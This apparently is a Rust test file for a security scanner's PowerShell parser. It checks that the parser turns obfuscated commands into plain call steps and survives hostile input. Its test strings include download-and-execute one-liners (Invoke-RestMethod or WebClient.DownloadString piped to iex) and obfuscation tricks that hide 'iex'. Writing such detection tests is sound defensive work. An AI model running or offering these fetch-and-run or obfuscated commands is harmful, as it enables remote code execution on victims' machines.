//! What is read of `PowerShell`.

use super::*;
use crate::security::code::show::steps;

#[track_caller]
fn check(text: &str, expected: &str) {
    let shown = steps(&parse(text));
    let expected: Vec<&str> = expected.lines().map(str::trim).collect();
    assert_eq!(shown, expected, "{text}");
}

#[test]
fn pipelines_and_brackets_hand_values_on() {
    let piped = "irm(http://a)\nr0|iex()";
    check("irm http://a | iex", piped);
    check("PS C:\\> IRM http://a |\n  IeX", piped);
    check("i`rm http://a | i`ex", piped);
    check("iex (irm http://a)", "irm(http://a)\niex(r0)");
    check("$x = irm http://a; iex $x", "irm(http://a)\nx = r0\niex(x)");
    check("& 'C:\\t\\a.exe' -q", "C:/t/a.exe(-q)");
    check("& $x", "eval(x)");
}

#[test]
fn methods_are_calls() {
    check(
        "IEX (New-Object Net.WebClient).DownloadString('http://a')",
        "new-object(Net.WebClient)\nr0.downloadstring(http://a)\niex(r1)",
    );
    check(
        "$x.GetString([System.Convert]::FromBase64String('YQ=='))",
        "convert::frombase64string(YQ==)\nx.getstring(r0)",
    );
}

#[test]
fn texts_are_joined() {
    check("iex ('a' + \"b\")", "iex(ab)");
    check("iex \"a $b\"", "iex(a +b+)");
}

#[test]
fn operators_put_texts_together() {
    check("& ('{1}{0}' -f 'ex','i') $x", "iex(x)");
    check("iex ('aXXb' -replace 'XX','')", "iex(ab)");
    check("& (-join ([char[]](105,101,120))) $x", "iex(x)");
    check(
        "$c.('{1}{0}' -f 'String','Download').Invoke($u)",
        "c.downloadstring(u)",
    );
    check("$c.\"Down`loadString\"($u)", "c.downloadstring(u)");
}

#[test]
fn hostile_texts_end() {
    for unit in [
        "'' -f ",
        "'{0}{0}' -f 'a' ",
        "-join ",
        "$a.(",
        "'a' -replace 'b',",
        "$(",
        "(",
        "[",
        "\"$(",
        "& ",
        "a|",
        "'",
        "@{",
        ".x(",
        "`",
        "[a]",
        "${",
    ] {
        let program = parse(&unit.repeat(20_000));
        assert!(program.values.len() < 200_000, "{unit}");
    }
}
